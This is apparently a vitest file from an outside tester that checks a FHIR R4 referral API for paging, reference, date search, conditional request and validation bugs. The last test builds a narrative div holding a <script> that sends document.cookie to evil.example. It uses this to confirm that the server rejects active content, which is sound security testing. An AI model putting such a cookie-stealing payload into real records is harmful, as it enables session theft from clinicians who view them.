// Outside tester (breakit21, issue 7): the FHIR R4 API as a record-system integrator uses it —
// paging to the end, references in the forms R4 allows — through the real app on its test
// database (testing/fhir-variants.ts). Each test in the first blocks names one bug (expected vs
// actual in comments); the last block holds what was tried and already works ("holds").
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FNR_OID } from '../../directory/identifiers.ts';
import {
  fhirGet,
  fhirPost,
  matchIds,
  openFhirVariantWorld,
  READ,
  referralCount,
  variantReferral,
  type FhirVariantWorld,
  type SearchBundle,
} from '../../testing/fhir-variants.ts';

const T = 600_000;
// The _offset cap (config.ts fhirMaxOffset, RADVIS_FHIR_MAX_OFFSET; 10,000 by default), lowered here
// so the paging test inserts CAP + 150 referrals instead of 10,150 and stays fast; the case is the
// same: the matches past the cap must be reachable by following next.
const CAP = 500;
let w: FhirVariantWorld;
beforeAll(async () => {
  w = await openFhirVariantWorld({ fhirMaxOffset: CAP });
}, 120_000);
afterAll(() => w.t.close());

describe('paging: following next to the end (R4 http.html#paging, search.html#count)', () => {
  // R4 http.html#paging: a searchset is paged with links; "next" is the link to the next page, and a
  // client reads the whole result by following next until there is none (what a record system does
  // to reconcile its referrals). The Bundle's total is exact (_total accurate is the default).
  // With 10,150 referrals a client may read, the page at _offset=10000 (which Radvis serves) carries
  // a next link with _offset=10100. (Run with the cap lowered to CAP through config: CAP + 150.)
  // Expected: every next link Radvis writes answers 200; following them from the first page yields
  // each of the `total` referrals exactly once.
  // Actual: the next link of the page at _offset=10000 is refused by Radvis itself with 400
  // "_offset: must be a whole number from 0 to 10000" (paging.ts MAX_OFFSET), so the last 50
  // referrals can never be read by paging although total counts them.
  it('every next link answers 200 and the pages hold each of the total matches once', { timeout: T }, async () => {
    const db = w.t.db.kysely;
    const cols = (
      await sql<{ c: string }>`SELECT column_name AS c FROM information_schema.columns
        WHERE table_schema = current_schema() AND table_name = 'referral' AND is_generated = 'NEVER' AND identity_generation IS NULL
          AND column_name NOT IN ('id', 'identifier_system', 'identifier_value')`.execute(db)
    ).rows.map((r) => r.c);
    const list = sql.join(cols.map((c) => sql.ref(c)));
    const list2 = sql.join(cols.map((c) => sql.ref(`r.${c}`)));
    const existing = await referralCount(db);
    const clones = CAP + 150 - existing;
    await sql`INSERT INTO referral (id, ${list})
      SELECT 'ref-b21-' || g, ${list2} FROM referral r, generate_series(1, ${clones}) g WHERE r.id = ${w.made.f1}`.execute(db);

    let url: string | undefined = '/fhir/ServiceRequest?_count=100';
    const seen = new Set<string>();
    let total = -1;
    let pages = 0;
    while (url) {
      const res = await fhirGet(w.t.app, url);
      expect(res.statusCode, `page ${pages + 1} (${url}): ${res.body.slice(0, 300)}`).toBe(200);
      const b = res.json<SearchBundle>();
      if (total < 0) total = b.total ?? -1;
      for (const id of matchIds(b)) {
        expect(seen.has(id), `${id} on two pages`).toBe(false);
        seen.add(id);
      }
      const next = b.link.find((l) => l.relation === 'next')?.url;
      url = next ? next.replace(/^https?:\/\/[^/]+/, '') : undefined;
      pages++;
    }
    expect(total).toBe(CAP + 150);
    expect(seen.size).toBe(total);
    // _offset stays accepted up to the cap, and that page's next link reaches the rest (the last 50).
    const atCap = await fhirGet(w.t.app, `/fhir/ServiceRequest?_count=100&_offset=${CAP}`);
    expect(atCap.statusCode, atCap.body.slice(0, 300)).toBe(200);
    const next = atCap.json<SearchBundle>().link.find((l) => l.relation === 'next')?.url;
    expect(next).toBeDefined();
    const rest = await fhirGet(w.t.app, next!.replace(/^https?:\/\/[^/]+/, ''));
    expect(rest.statusCode, rest.body.slice(0, 300)).toBe(200);
    expect(matchIds(rest.json<SearchBundle>())).toHaveLength(50);
    expect((await fhirGet(w.t.app, `/fhir/ServiceRequest?_offset=${CAP + 1}`)).statusCode).toBe(400);
  });
});

describe('references as absolute URLs (R4 references.html#literal)', () => {
  // R4 references.html#literal: Reference.reference is "a relative reference, or an absolute URL";
  // an absolute URL at this server's own base names the same resource as the relative one
  // (`http://localhost:80/fhir/Organization/x` here is `Organization/x`). Radvis already reads
  // absolute references under its base in search (performer=<base>/Organization/{id} finds the
  // referrals, search.ts referenceCriterion), and its CapabilityStatement names
  // `implementation.url` as that base.
  // Expected: the same referral sent with performer as the absolute URL of the receiving
  // department under Radvis' own base is created (201), filed on that department.
  // Actual: 422 "ServiceRequest.performer: must be a reference Organization/{id} to the receiving
  // department" — a record system that writes absolute references (as many do for every
  // reference) cannot send a referral at all.
  it('performer = {base}/Organization/{id} of the receiving department is the department (201)', async () => {
    const meta = await fhirGet(w.t.app, '/fhir/metadata');
    const base = meta.json<{ implementation: { url: string } }>().implementation.url;
    // Control: search reads the absolute form as the department.
    const found = await fhirGet(w.t.app, `/fhir/ServiceRequest?performer=${encodeURIComponent(`${base}/Organization/dept-var-1`)}&_summary=count`);
    expect(found.statusCode, found.body).toBe(200);
    expect(found.json<SearchBundle>().total).toBeGreaterThan(0);
    const res = await fhirPost(w.t.app, variantReferral('b21-abs-performer', { performer: [{ reference: `${base}/Organization/dept-var-1` }] }));
    expect(res.statusCode, res.body).toBe(201);
    const row = await w.t.db.kysely.selectFrom('referral').select('department_org_id').where('id', '=', res.json<{ id: string }>().id).executeTakeFirst();
    expect(row?.department_org_id).toBe('dept-var-1');
  });
});

describe('holds (tried by breakit21, already correct — kept as regression tests, not bugs)', () => {
  const one = async (q: string) => {
    const r = await fhirGet(w.t.app, `/fhir/ServiceRequest?_id=${w.made.f1}&${q}`);
    expect(r.statusCode, `${q}: ${r.body.slice(0, 300)}`).toBe(200);
    return r.json<SearchBundle>().total;
  };

  it('authored: precision YYYY / YYYY-MM / day, prefixes eq ne gt lt ge le sa eb, and zone offsets (search.html#date)', async () => {
    const au = (await fhirGet(w.t.app, `/fhir/ServiceRequest/${w.made.f1}`)).json<{ authoredOn: string }>().authoredOn;
    const sec = au.slice(0, 19);
    const shift = (h: number) => new Date(Date.parse(`${sec}Z`) + h * 3_600_000).toISOString().slice(0, 19);
    expect(await one(`authored=${au.slice(0, 4)}`)).toBe(1);
    expect(await one(`authored=${au.slice(0, 7)}`)).toBe(1);
    expect(await one(`authored=${au.slice(0, 10)}`)).toBe(1);
    expect(await one(`authored=ne${au.slice(0, 10)}`)).toBe(0);
    expect(await one(`authored=sa${au.slice(0, 10)}`)).toBe(0);
    expect(await one(`authored=eb${au.slice(0, 10)}`)).toBe(0);
    expect(await one(`authored=sa2000`)).toBe(1);
    expect(await one(`authored=eb3000`)).toBe(1);
    expect(await one(`authored=${sec}Z`)).toBe(1);
    expect(await one(`authored=${encodeURIComponent(`${shift(14)}+14:00`)}`)).toBe(1);
    expect(await one(`authored=${encodeURIComponent(`${shift(-12)}-12:00`)}`)).toBe(1);
    expect(await one(`authored=gt${sec}Z`)).toBe(0);
    expect(await one(`authored=lt${sec}Z`)).toBe(0);
    expect(await one(`authored=ge${sec}Z`)).toBe(1);
    expect(await one(`authored=le${sec}Z`)).toBe(1);
    expect(await one(`authored=gt${encodeURIComponent(au)}`)).toBe(0);
    expect(await one(`_lastUpdated=gt${encodeURIComponent(au)}`)).toBe(0);
  });

  it('POST [type]/_search with a form body answers as GET; a JSON body is 415', async () => {
    const form = await w.t.app.inject({
      method: 'POST',
      url: '/fhir/ServiceRequest/_search',
      headers: { ...READ, 'content-type': 'application/x-www-form-urlencoded; charset=UTF-8' },
      payload: `_id=${w.made.f1}`,
    });
    expect(form.statusCode).toBe(200);
    expect(matchIds(form.json<SearchBundle>())).toEqual([w.made.f1]);
    const json = await w.t.app.inject({
      method: 'POST',
      url: '/fhir/ServiceRequest/_search',
      headers: { ...READ, 'content-type': 'application/fhir+json' },
      payload: '{}',
    });
    expect(json.statusCode).toBe(415);
  });

  it('conditional read: If-None-Match (also *, lists) and If-Modified-Since → 304; If-Match on another version → 412', async () => {
    const rd = await fhirGet(w.t.app, `/fhir/ServiceRequest/${w.made.f1}`);
    const etag = String(rd.headers.etag);
    for (const inm of [etag, '*', `W/"zz", ${etag}`])
      expect((await fhirGet(w.t.app, `/fhir/ServiceRequest/${w.made.f1}`, { 'if-none-match': inm })).statusCode).toBe(304);
    expect((await fhirGet(w.t.app, `/fhir/ServiceRequest/${w.made.f1}`, { 'if-modified-since': String(rd.headers['last-modified']) })).statusCode).toBe(304);
    expect((await fhirGet(w.t.app, `/fhir/ServiceRequest/${w.made.f1}`, { 'if-modified-since': 'Mon, 01 Jan 2001 00:00:00 GMT' })).statusCode).toBe(200);
    expect((await fhirGet(w.t.app, `/fhir/ServiceRequest/${w.made.f1}`, { 'if-match': 'W/"99"' })).statusCode).toBe(412);
    expect((await fhirGet(w.t.app, `/fhir/ServiceRequest/${w.made.f1}/_history/99`)).statusCode).toBe(404);
  });

  it('content negotiation: XML, a FHIR version other than 4.0, or JSON at q=0 → 406 OperationOutcome', async () => {
    for (const accept of ['application/fhir+xml', 'application/fhir+json; fhirVersion=3.0', 'application/fhir+json;q=0, application/fhir+xml']) {
      const r = await fhirGet(w.t.app, `/fhir/ServiceRequest/${w.made.f1}`, { accept });
      expect(r.statusCode, accept).toBe(406);
      expect(r.json<{ resourceType: string }>().resourceType).toBe('OperationOutcome');
    }
    expect((await fhirGet(w.t.app, `/fhir/ServiceRequest/${w.made.f1}?_format=xml`)).statusCode).toBe(406);
  });

  it('If-None-Exist matching two referrals → 412, nothing written; Prefer return=minimal / OperationOutcome honoured', async () => {
    const before = await referralCount(w.t.db.kysely);
    const r = await fhirPost(w.t.app, variantReferral('b21-ine'), { 'if-none-exist': `patient:identifier=${FNR_OID}|31836000067` });
    expect(r.statusCode).toBe(412);
    expect(await referralCount(w.t.db.kysely)).toBe(before);
    const min = await fhirPost(w.t.app, variantReferral('b21-min'), { prefer: 'return=minimal' });
    expect([min.statusCode, min.body, min.headers['preference-applied']]).toEqual([201, '', 'return=minimal']);
    const oo = await fhirPost(w.t.app, variantReferral('b21-oo'), { prefer: 'return=OperationOutcome' });
    expect(oo.statusCode).toBe(201);
    expect(oo.json<{ resourceType: string }>().resourceType).toBe('OperationOutcome');
  });

  it('JSON nested 20,000 deep → 400 OperationOutcome (no 5xx); unknown extensions and primitive extensions are kept', async () => {
    const deep = '['.repeat(20_000) + ']'.repeat(20_000);
    const body = JSON.stringify(variantReferral('b21-deep')).replace('"note":[', `"note":[{"text":"n","x":${deep}},`);
    expect((await fhirPost(w.t.app, body)).statusCode).toBe(400);
    const ext = await fhirPost(
      w.t.app,
      variantReferral('b21-ext', {
        extension: [{ url: 'http://unknown.example/x', valueString: 'y' }],
        _status: { extension: [{ url: 'http://unknown.example/s', valueString: 'z' }] },
      }),
    );
    expect(ext.statusCode).toBe(201);
    expect(ext.json<{ _status?: unknown }>()._status).toEqual({ extension: [{ url: 'http://unknown.example/s', valueString: 'z' }] });
  });
});

describe('resource validity on create (R4 json.html choice elements, narrative.html)', () => {
  // R4 json.html (Choice of Datatypes) and formats.html: an element `occurrence[x]` is one element —
  // "only one of the choices may be present"; a resource with both occurrenceDateTime and
  // occurrencePeriod is not valid FHIR (structural error → 400 per the CapabilityStatement's own
  // documentation: "Structural errors ... give 400").
  // Expected: 400 OperationOutcome naming occurrence[x]; nothing stored.
  // Actual: 201 — the referral is stored with two different "when to perform" values and served
  // back so to every reader ("Elements Radvis does not model are kept as sent").
  it('occurrenceDateTime and occurrencePeriod together → 400, nothing stored', async () => {
    const before = await referralCount(w.t.db.kysely);
    const res = await fhirPost(
      w.t.app,
      variantReferral('b21-two-occurrences', { occurrenceDateTime: '2026-12-20', occurrencePeriod: { start: '2027-01-10', end: '2027-01-20' } }),
    );
    expect(res.statusCode, res.body.slice(0, 300)).toBe(400);
    expect(await referralCount(w.t.db.kysely)).toBe(before);
  });

  // R4 narrative.html: Narrative.div is limited XHTML — "The XHTML content SHALL NOT contain a head,
  // a body, external stylesheet references, scripts, forms, base/link/xlink, frames, iframes and
  // objects" (invariant txt-1), and R4 security.html#narrative: a system receiving narrative must
  // not pass on active content. Radvis keeps elements it does not model "as sent" and serves them
  // to every FHIR reader of the referral (record systems commonly render text.div).
  // Expected: a ServiceRequest whose text.div holds a <script> element → 400 (txt-1), nothing stored.
  // Actual: 201, and GET /fhir/ServiceRequest/{id} serves the <script> back.
  it('text.div with a <script> element → 400 (txt-1), not stored and served back', async () => {
    const before = await referralCount(w.t.db.kysely);
    const div = '<div xmlns="http://www.w3.org/1999/xhtml"><p>Henvisning</p><script>fetch("https://evil.example/?c="+document.cookie)</script></div>';
    const res = await fhirPost(w.t.app, variantReferral('b21-script-narrative', { text: { status: 'generated', div } }));
    expect(res.statusCode, res.body.slice(0, 300)).toBe(400);
    expect(await referralCount(w.t.db.kysely)).toBe(before);
  });
});
